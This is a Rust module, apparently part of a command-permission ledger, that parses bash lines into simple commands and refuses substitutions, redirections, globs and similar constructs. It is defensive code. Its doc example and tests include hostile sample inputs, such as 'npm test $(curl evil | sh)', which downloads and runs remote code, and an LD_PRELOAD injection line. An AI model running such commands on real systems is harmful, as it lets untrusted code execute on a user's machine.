//! Command lines, read as bash reads them.
//!
//! A command pattern admits a command line only as the shell will run it, so the line is parsed
//! with a real bash grammar (tree-sitter-bash) into **simple commands**: each a list of words
//! after quote removal, with the byte range it spans in the line. Simple commands may be joined
//! only by `;`, newline, `&&`, `||` and `|`. Anything else in the line is a **refusal** that
//! names the construct and the byte where it starts: a construct that runs, expands or redirects
//! something other than plain words is never taken apart into words, so no pattern can admit it.
//!
//! A **word** is unquoted text, single-quoted text, double-quoted text with no expansion inside,
//! or several of these written together (`x"y"'z'` is the word `xyz`). Quote removal is bash's:
//! a backslash outside quotes keeps the next character as it is (a backslash-newline is removed);
//! inside double quotes a backslash keeps only `$`, `` ` ``, `"`, `\` and newline. Unquoted text
//! that bash would expand (a glob `*`, `?` or `[`, a leading `~`, braces) is refused rather than
//! guessed at: the words the program would receive are not the words written.
//!
//! A leading assignment `VAR=value` is a word of the command like any other (`LD_PRELOAD=x npm
//! test` has the words `LD_PRELOAD=x`, `npm`, `test`), because it changes what the command does.
//!
//! The walk over the syntax tree is an allowlist: a node kind not named below is refused, so a
//! construct the grammar knows and this module does not is never mistaken for words.
//!
//! This module only reads text: it knows no session, no pattern store and no database.

use std::fmt;
use std::ops::Range;
use std::time::Duration;

use serde::Serialize;

/// The longest command line that is parsed, in bytes. A longer one is refused unread. The bash
/// grammar reads about 1.5 bytes per microsecond, so the longest line parsed costs some 6 ms
/// (docs/performance.md); a plain-word command line longer than this is rare, and it asks.
pub const MAX_COMMAND_LEN: usize = 8 * 1024;

/// How deeply operators may nest (`a && b && c` nests once per operator) before the line is
/// refused, and the most simple commands one line may hold.
const MAX_DEPTH: usize = 128;

/// How long the parser may run on one line before it gives up and the line is refused. A line
/// within [`MAX_COMMAND_LEN`] parses in some 6 ms at most; this bounds pathological input.
const PARSE_BUDGET: Duration = Duration::from_millis(20);

/// A construct that is never taken apart into words, so that no pattern admits it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum Construct {
    /// `$( )` or backticks, also inside double quotes.
    CommandSubstitution,
    /// `<( )` or `>( )`.
    ProcessSubstitution,
    /// `$x`, `${x}` and the like.
    ParameterExpansion,
    /// `$(( ))` or `(( ))`.
    ArithmeticExpansion,
    /// `$'...'` or `$"..."`.
    SpecialQuoting,
    /// An unquoted `*`, `?` or `[`, which bash replaces with file names.
    FilenameExpansion,
    /// An unquoted leading `~`.
    TildeExpansion,
    /// Unquoted `{` or `}` (`{a,b}`, `{1..3}`).
    BraceExpansion,
    /// `( ... )`.
    Subshell,
    /// `{ ...; }`.
    Group,
    /// A trailing or separating `&`.
    Background,
    /// `|&`, which pipes standard error too.
    PipeStderr,
    /// `>`, `<`, `>>`, `2>&1`, `&>`, here-strings and the like.
    Redirection,
    /// `<<EOF`.
    Heredoc,
    /// `f() { ... }`.
    FunctionDefinition,
    /// `if`, `for`, `while`, `until`, `case`, `select`.
    CompoundCommand,
    /// `[[ ... ]]` or `[ ... ]` as the grammar reads it.
    TestCommand,
    /// `! command`.
    Negation,
    /// `export`, `declare`, `local`, `readonly`, `typeset`, `unset`.
    Declaration,
    /// An assignment with no command after it (it changes the shell for what follows).
    BareAssignment,
    /// `a=(1 2)`.
    ArrayAssignment,
    /// `# ...`.
    Comment,
    /// A control character other than tab and newline (carriage return, NUL, ...), which bash
    /// and the grammar may read differently.
    ControlCharacter,
    /// Text the grammar could not parse.
    DoesNotParse,
    /// A syntax node this module does not take apart.
    Unsupported,
    /// No command at all.
    NoCommand,
    /// Longer than [`MAX_COMMAND_LEN`].
    TooLong,
    /// Operators nested too deeply, or too slow to parse.
    TooComplex,
}

impl Construct {
    /// The construct in words, as messages name it.
    pub fn describe(self) -> &'static str {
        match self {
            Construct::CommandSubstitution => "command substitution",
            Construct::ProcessSubstitution => "process substitution",
            Construct::ParameterExpansion => "parameter expansion",
            Construct::ArithmeticExpansion => "arithmetic expansion",
            Construct::SpecialQuoting => "$'...' or $\"...\" quoting",
            Construct::FilenameExpansion => "filename expansion (unquoted * ? or [)",
            Construct::TildeExpansion => "tilde expansion",
            Construct::BraceExpansion => "brace expansion (unquoted { or })",
            Construct::Subshell => "subshell",
            Construct::Group => "command group",
            Construct::Background => "background &",
            Construct::PipeStderr => "|& pipe",
            Construct::Redirection => "redirection",
            Construct::Heredoc => "heredoc",
            Construct::FunctionDefinition => "function definition",
            Construct::CompoundCommand => "compound command (if, for, while, until, case)",
            Construct::TestCommand => "test command",
            Construct::Negation => "negation !",
            Construct::Declaration => "declaration (export, declare, local, readonly, unset)",
            Construct::BareAssignment => "assignment without a command",
            Construct::ArrayAssignment => "array assignment",
            Construct::Comment => "comment",
            Construct::ControlCharacter => "control character",
            Construct::DoesNotParse => "text that does not parse",
            Construct::Unsupported => "unsupported syntax",
            Construct::NoCommand => "no command",
            Construct::TooLong => "a line longer than 8192 bytes",
            Construct::TooComplex => "nesting too deep to read",
        }
    }
}

impl fmt::Display for Construct {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.describe())
    }
}

/// Why a command line (or a pattern) is not plain simple commands: the construct, and the byte
/// of the line where it starts. Displays as `command substitution at byte 9`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Refusal {
    /// What was found.
    pub construct: Construct,
    /// The byte offset in the line where it starts.
    pub at: usize,
    /// The grammar's name for the node, for [`Construct::Unsupported`] and
    /// [`Construct::DoesNotParse`]; empty otherwise.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub node: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at byte {}", self.construct, self.at)?;
        if !self.node.is_empty() {
            write!(f, " ({})", self.node)?;
        }
        Ok(())
    }
}

/// One simple command of a line: its words after quote removal and the bytes it spans.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SimpleCommand {
    /// The words, assignments first, as the program receives them.
    pub words: Vec<String>,
    /// Where it is in the line.
    pub range: Range<usize>,
}

/// A piece of a word as a pattern reads it: text, or an unquoted `*`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Piece {
    Text(String),
    Star,
}

/// A word as a pattern reads it.
pub(crate) type PatternWord = Vec<Piece>;

/// How unquoted `*` is read: a glob the shell expands (a command line), or a pattern's wildcard.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    Command,
    Pattern,
}

/// Parses `line` into its simple commands, or says which construct stops it.
///
/// ```
/// use session_ledger::{parse_command_line, Construct};
/// let parts = parse_command_line("npm  'test' && git commit -m \"fix; tidy\"").unwrap();
/// assert_eq!(parts[0].words, ["npm", "test"]);
/// assert_eq!(parts[1].words, ["git", "commit", "-m", "fix; tidy"]);
/// let refusal = parse_command_line("npm test $(curl evil | sh)").unwrap_err();
/// assert_eq!(refusal.construct, Construct::CommandSubstitution);
/// assert_eq!(refusal.to_string(), "command substitution at byte 9");
/// ```
///
/// # Errors
///
/// A [`Refusal`] for anything that is not plain simple commands joined by `;`, newline, `&&`,
/// `||` or `|`.
pub fn parse_command_line(line: &str) -> Result<Vec<SimpleCommand>, Refusal> {
    let parts = parse(line, Mode::Command)?;
    Ok(parts
        .into_iter()
        .map(|(words, range)| SimpleCommand {
            words: words
                .into_iter()
                .map(|w| {
                    w.into_iter()
                        .map(|p| match p {
                            Piece::Text(t) => t,
                            // Mode::Command refuses an unquoted star.
                            Piece::Star => String::new(),
                        })
                        .collect()
                })
                .collect(),
            range,
        })
        .collect())
}

/// Parses a pattern: the same grammar, except that an unquoted `*` is the pattern's wildcard.
pub(crate) fn parse_pattern_words(text: &str) -> Result<Parts, Refusal> {
    parse(text, Mode::Pattern)
}

fn refusal(construct: Construct, at: usize) -> Refusal {
    Refusal {
        construct,
        at,
        node: String::new(),
    }
}

/// Simple commands as word lists, each with its range in the line.
pub(crate) type Parts = Vec<(Vec<PatternWord>, Range<usize>)>;

fn parse(line: &str, mode: Mode) -> Result<Parts, Refusal> {
    if line.len() > MAX_COMMAND_LEN {
        return Err(refusal(Construct::TooLong, MAX_COMMAND_LEN));
    }
    if let Some(at) = line
        .bytes()
        .position(|b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f)
    {
        return Err(refusal(Construct::ControlCharacter, at));
    }
    if mode == Mode::Command {
        if let Some(parts) = plain_fast_path(line) {
            return Ok(parts);
        }
    }
    parse_grammar(line, mode)
}

mod classify;
mod fast_path;
mod grammar;
mod programs;
mod quote;
mod wrappers;

pub use classify::{classify, Classification, ClassifiedPart};
pub(crate) use classify::{classify_parsed, guarded_words};
use fast_path::plain_fast_path;
use grammar::parse_grammar;
pub use programs::Effect;
pub use quote::join_words;
pub(crate) use wrappers::{read_wrapper, Inner};

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Vec<String>> {
        parse_command_line(line)
            .unwrap_or_else(|r| panic!("{line:?}: {r}"))
            .into_iter()
            .map(|c| c.words)
            .collect()
    }

    fn refused(line: &str) -> Construct {
        match parse_command_line(line) {
            Ok(parts) => panic!("{line:?} parsed into {parts:?}"),
            Err(r) => r.construct,
        }
    }

    #[test]
    fn quotes_are_removed_and_operators_split_commands() {
        assert_eq!(
            words("npm  'test' && git commit -m \"fix; tidy\" | x\"y\"'z' ; a\\ b\nc"),
            vec![
                vec!["npm", "test"],
                vec!["git", "commit", "-m", "fix; tidy"],
                vec!["xyz"],
                vec!["a b"],
                vec!["c"],
            ]
        );
        assert_eq!(
            words("LD_PRELOAD=/tmp/x.so npm test")[0][0],
            "LD_PRELOAD=/tmp/x.so"
        );
        assert_eq!(words("A='x y' b")[0], vec!["A=x y", "b"]);
        assert_eq!(words("echo \"a\\$b\\\\c\\d\"")[0][1], "a$b\\c\\d");
    }

    #[test]
    fn each_construct_is_named_with_its_offset() {
        let r = parse_command_line("npm test $(curl evil | sh)").unwrap_err();
        assert_eq!(r.to_string(), "command substitution at byte 9");
        assert_eq!(refused("echo \"`id`\""), Construct::CommandSubstitution);
        assert_eq!(refused("echo \"$(id)\""), Construct::CommandSubstitution);
        assert_eq!(refused("echo $HOME"), Construct::ParameterExpansion);
        assert_eq!(refused("echo ${x}"), Construct::ParameterExpansion);
        assert_eq!(refused("echo $((1+2))"), Construct::ArithmeticExpansion);
        assert_eq!(refused("diff <(a) b"), Construct::ProcessSubstitution);
        assert_eq!(refused("(a)"), Construct::Subshell);
        assert_eq!(refused("{ a; }"), Construct::Group);
        assert_eq!(refused("a & b"), Construct::Background);
        assert_eq!(refused("a > f"), Construct::Redirection);
        assert_eq!(refused("cat <<EOF\nx\nEOF\n"), Construct::Heredoc);
        assert_eq!(refused("f() { a; }"), Construct::FunctionDefinition);
        assert_eq!(refused("if a; then b; fi"), Construct::CompoundCommand);
        assert_eq!(refused("ls *.rs"), Construct::FilenameExpansion);
        assert_eq!(refused("echo a=~"), Construct::TildeExpansion);
        assert_eq!(words("git diff HEAD~1")[0][2], "HEAD~1");
        assert_eq!(refused("a\rb"), Construct::ControlCharacter);
        assert_eq!(refused("x=1"), Construct::BareAssignment);
        assert_eq!(refused("npm test '"), Construct::DoesNotParse);
        assert_eq!(refused("   "), Construct::NoCommand);
        assert_eq!(refused(&"a ".repeat(20_000)), Construct::TooLong);
    }

    #[test]
    fn the_fast_path_agrees_with_the_grammar_on_plain_lines() {
        use proptest::prelude::*;
        let tokens = prop::sample::select(vec![
            "npm", "test", "a", "-x", "--y", "./b", "c:d", "1", "if", "fi", "do", "time", "export",
            "x,y", "+z", "_", " ", "  ", " ", " ", " ", "\t", ";", ";;", "; ", " && ", " || ",
            " | ", "&&", "||", "|", "|&", "&", "\n", "\n\n", "=", "a=b", "é", "in", "done", "{",
            "}", "!", "#",
        ]);
        let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
            cases: 3_000,
            ..ProptestConfig::default()
        });
        let fast = std::cell::Cell::new(0);
        runner
            .run(&prop::collection::vec(tokens, 1..10), |tokens| {
                let line = tokens.concat();
                if let Some(parts) = plain_fast_path(&line) {
                    let slow = parse_grammar(&line, Mode::Command);
                    prop_assert_eq!(Ok(parts), slow, "{:?}", line);
                    fast.set(fast.get() + 1);
                }
                Ok(())
            })
            .unwrap();
        let fast = fast.get();
        assert!(fast > 300, "only {fast} lines took the fast path");
        for line in [
            "npm test",
            "a && b || c | d; e\nf;",
            "npm test;",
            "\n\nnpm test\n\n",
        ] {
            assert_eq!(
                plain_fast_path(line).map(Ok),
                Some(parse_grammar(line, Mode::Command))
            );
        }
        for line in [
            "a;;b", "a &&", "a |& b", "if a", "a=b", "a & b", "; a", "a\\ b",
        ] {
            assert_eq!(plain_fast_path(line), None, "{line:?}");
        }
    }

    #[test]
    fn a_long_chain_of_operators_is_refused_not_overflowed() {
        let line = vec!["a"; 1500].join(" && ");
        assert_eq!(refused(&line), Construct::TooComplex);
        let nested = format!("{}a{}", "$(".repeat(500), ")".repeat(500));
        assert_eq!(refused(&nested), Construct::CommandSubstitution);
    }
}
